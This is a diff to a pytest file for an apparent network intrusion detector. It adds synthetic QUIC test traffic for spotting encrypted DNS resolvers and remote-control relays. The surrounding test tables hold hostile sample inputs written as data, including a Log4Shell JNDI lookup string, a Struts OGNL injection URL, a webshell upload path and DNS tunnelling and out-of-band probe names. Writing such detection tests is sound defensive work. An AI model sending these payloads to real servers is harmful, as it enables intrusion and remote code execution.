@@ -9,10 +9,12 @@ import pytest
 
 from correlation.matcher.engine import Matcher
 from correlation.rules.loading import load_rules
+from sensors.capture.handshakes import client_hello
 from sensors.event.model import Source
 from sensors.reading.detection import detect
 from sensors.reading.model import Position
 from tests.sensors.capture.protocols import test_kerberos as kerberos
+from tests.sensors.capture.protocols import test_quic as quic
 from tests.sensors.capture.protocols import test_rdp as rdp
 from tests.sensors.capture.protocols import test_smb as smb
 
@@ -169,6 +171,12 @@ def desktop(chosen: int) -> list[Packet]:
     return tcp_session(("10.31.7.45", 50_331), ("10.31.1.6", 3389), [(asked, given)])
 
 
+def quic_to(server: str, name: str) -> list[Packet]:
+    """The first flight of a client over QUIC (RFC 9001)."""
+    hello = client_hello(name, (0x1301, 0x1302))[5:]
+    return [udp(("10.31.7.45", 50_331), (server, 443), quic.initial(quic.crypto(0, hello)))]
+
+
 LONG = f"{'5f3a0011' * 6}.{'8899aabb' * 6}.t.synthetic.example"
 
 ATTACKS = {
@@ -187,6 +195,8 @@ ATTACKS = {
     "unregistered_dns_resolver": asks("223.5.5.5", "synthetic-news.example"),
     "out_of_band_probe_domain": asks("10.0.0.53", "synthetic77.s1.dnslog.cn"),
     "dns_tunnel_long_name": asks("10.0.0.53", LONG, 16),
+    "encrypted_dns_resolver": quic_to("203.0.113.53", "dns.alidns.com"),
+    "remote_control_tool_tls": quic_to("203.0.113.60", "relay-3.todesk.com"),
     "log4shell_probe": web("GET /", "User-Agent: ${jndi:ldap://192.0.2.99/synthetic}"),
     "struts_ognl_injection": web("GET /a.action?redirect:%24%7b%23x%3d%40java.lang.Runtime%40getRuntime()%7d"),
     "webshell_in_upload_folder": web("POST /cms/uploadfile/202611/synthetic7.jsp?c=1", "Content-Length: 0"),
@@ -209,6 +219,7 @@ LEGITIMATE = {
     "stun": [udp(("10.70.1.8", 51_000), ("203.0.113.98", 3478), b"\0" * 60)],
     "registered_forwarder": [udp(("10.0.0.53", 53_311), ("223.5.5.5", 53), dns("synthetic-news.example"))],
     "mail_policy": asks("10.0.0.53", "synthetic._domainkey.mail.example", 16),
+    "quic": quic_to("203.0.113.60", "www.todesk.com") + quic_to("203.0.113.60", "portal.synthetic.example"),
     "page": web("GET /cms/uploadfile/202611/synthetic.pdf", "User-Agent: Mozilla/5.0 (synthetic)"),
     "own_prefix": [router_advertisement("fd00:70:1::", 1_800), router_advertisement("2001:db8:bad::", 0)],
     "inside_resolver": [lease(b"\x06\x04\x0a\x00\x00\x35")],
